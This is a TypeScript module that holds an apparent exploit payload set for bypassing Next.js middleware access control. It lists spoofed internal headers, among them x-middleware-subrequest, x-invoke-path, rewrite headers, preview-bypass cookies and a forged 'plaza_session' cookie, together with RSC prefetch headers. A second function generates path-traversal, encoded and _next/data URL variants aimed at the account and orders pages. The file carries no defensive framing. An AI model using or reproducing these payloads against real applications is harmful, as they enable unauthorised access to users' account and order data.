const TREE = encodeURIComponent(
  JSON.stringify([
    '',
    { children: [['site', 'shared', 'd'], { children: [['lan', 'en', 'd'], {}] }] },
    null,
    null,
    true,
  ]),
)

export const BYPASSES: Record<string, string>[] = [
  { 'x-middleware-subrequest': 'middleware' },
  { 'x-middleware-subrequest': 'src/middleware' },
  { 'x-middleware-subrequest': Array(5).fill('middleware').join(':') },
  { 'x-middleware-subrequest': Array(5).fill('src/middleware').join(':') },
  { 'x-middleware-subrequest': 'pages/_middleware' },
  { 'x-middleware-subrequest': Array(5).fill('proxy').join(':') },
  { 'x-middleware-subrequest': '1', 'x-middleware-subrequest-id': '1' },
  { 'x-middleware-next': '1' },
  { 'x-middleware-skip': '1', 'x-middleware-prefetch': '1' },
  { 'x-middleware-rewrite': '/shared/en/account' },
  { 'x-middleware-rewrite': 'http://localhost/shared/en/orders', 'x-middleware-next': '1' },
  { 'x-middleware-override-headers': 'cookie', 'x-middleware-request-cookie': 'plaza_session=x' },
  { 'x-middleware-set-cookie': 'plaza_session=x', 'x-middleware-cache': 'no-cache' },
  { 'x-invoke-path': '/shared/en/account', 'x-invoke-status': '200' },
  { 'x-invoke-path': '/shared/en/orders', 'x-invoke-output': '/[site]/[lan]/orders', 'x-invoke-query': '%7B%7D' },
  { 'x-matched-path': '/shared/en/account', 'x-now-route-matches': '1=shared&2=en' },
  { 'x-nextjs-data': '1' },
  { 'x-nextjs-rewrite': '/shared/en/account', 'x-nextjs-matched-path': '/shared/en/account' },
  { 'x-nextjs-prerender': '1', 'x-prerender-revalidate': 'x', cookie: '__prerender_bypass=x; __next_preview_data=x' },
  { 'x-now-cache': '1', 'x-next-revalidated-tags': 'x', 'x-next-cache-tags': 'x' },
  { rsc: '1' },
  { rsc: '1', 'next-router-prefetch': '1', 'next-url': '/account' },
  { rsc: '1', 'next-router-segment-prefetch': '/_tree', 'next-router-prefetch': '1' },
  { rsc: '1', 'next-router-state-tree': TREE, 'next-url': '/shared/en/account' },
  { 'x-original-url': '/shared/en/account', 'x-rewrite-url': '/shared/en/account', 'x-forwarded-uri': '/login' },
  { purpose: 'prefetch', 'x-purpose': 'preview', 'next-hmr-refresh': '1' },
]

export function formsOf(address: string): string[] {
  const [path = '', query = ''] = address.split('?')
  const and = query && `?${query}`
  return [
    `${path}?${query}&_rsc=1a2b3`,
    `/_next/data/build${path}.json${and}`,
    `/_next/data/development/shared/en${path}.json${and}`,
    `${path}.rsc${and}`,
    `${path}.txt${and}`,
    `${path}.segments/_tree.segment.rsc${and}`,
    `${path}/${and}`,
    `/${path}${and}`,
    `/.${path}${and}`,
    `/_next/..${path}${and}`,
    `/_next/static/chunks/..%2f..%2f..${path}${and}`,
    `/%61ccount${path.replace(/^\/account/, '')}${and}`,
  ]
}
